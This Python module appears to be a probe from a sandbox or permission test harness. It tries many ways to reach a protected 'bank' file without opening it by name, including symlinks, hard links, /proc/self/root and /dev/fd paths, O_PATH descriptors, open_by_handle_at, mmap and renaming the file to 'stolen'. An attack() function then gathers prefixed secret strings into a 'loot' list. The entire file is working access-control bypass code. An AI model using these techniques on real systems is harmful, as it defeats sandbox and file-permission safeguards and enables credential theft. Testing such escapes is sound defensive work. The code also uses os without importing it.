"""Come to a file by links, descriptors, handles and magic paths instead of by its name."""

import ctypes
import mmap

CLASS = "reading"
GAINS = ("read", "write")

libc = ctypes.CDLL(None, use_errno=True)


def by_link(make):
    def read(path):
        mine = f"link-{make.__name__}"
        make(path, mine)
        return open(mine, "rb").read()

    return read


def by_magic(place):
    return lambda path: open(f"{place}{path}", "rb").read()


def by_handle(path):
    handle = os.open(path, os.O_PATH)
    return open(f"/proc/self/fd/{handle}", "rb").read()


def by_folder(path):
    folder = os.open(os.path.dirname(path), os.O_PATH | os.O_DIRECTORY)
    opened = os.open(os.path.basename(path), os.O_RDONLY, dir_fd=folder)
    return os.pread(opened, 4096, 0)


def by_number(path):
    handle = (ctypes.c_uint32 * 34)(128)
    libc.name_to_handle_at(-100, path.encode(), handle, ctypes.byref(ctypes.c_int()), 0)
    opened = libc.open_by_handle_at(os.open("/", os.O_RDONLY), handle, os.O_RDONLY)
    return os.pread(opened, 4096, 0)


def by_moving(path):
    os.rename(path, "stolen")
    return open("stolen", "rb").read()


def by_mapping(path):
    with open(path, "r+b") as file:
        return mmap.mmap(file.fileno(), 0)[:4096]


WAYS = [
    by_link(os.symlink),
    by_link(os.link),
    *map(by_magic, ("/proc/self/root", "/proc/self/cwd/../../..", "/dev/fd/../../root")),
    by_handle,
    by_folder,
    by_number,
    by_mapping,
    by_moving,
]


def attack():
    for way in WAYS:
        try:
            text = way(KNOWN["bank"]).decode(errors="replace")
        except (OSError, ValueError):
            continue
        loot.extend(word for word in text.split('"') if word.startswith(KNOWN["prefix"]))
